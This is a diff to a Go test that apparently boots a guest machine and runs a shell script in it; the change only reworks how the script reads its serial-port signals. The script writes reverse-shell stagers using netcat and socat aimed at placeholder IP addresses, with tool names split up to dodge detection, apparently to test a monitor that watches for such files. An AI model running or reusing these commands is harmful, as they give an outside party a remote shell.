@@ -31,14 +31,15 @@ func TestSecondAttackInLiveGuest(t *testing.T) {
 	dir := t.TempDir()
 	script := `mount -t tmpfs tmpfs /tmp
 n="n""c"; s="so""cat"; e="ex""ec"
+exec 3< /dev/ttyS1
 echo GUEST-BOOTED
-read -r go < /dev/ttyS1
+read -r go <&3
 printf '#!/bin/sh\n%s -e /bin/sh 198.51.100.23 4444\n' "$n" > /tmp/stage1.sh
 echo GUEST-NC
-read -r go < /dev/ttyS1
+read -r go <&3
 printf '#!/bin/sh\n%s tcp:203.0.113.9:443 %s:/bin/sh,pty,stderr\n' "$s" "$e" > /tmp/stage2.sh
 echo GUEST-SOCAT
-read -r go < /dev/ttyS1
+read -r go <&3
 cp /tmp/stage1.sh /tmp/copy1.sh; cat /tmp/stage2.sh > /tmp/copy2.sh; cat /tmp/copy1.sh /tmp/copy2.sh > /dev/null
 echo GUEST-COPIED
 while :; do sleep 1000; done`
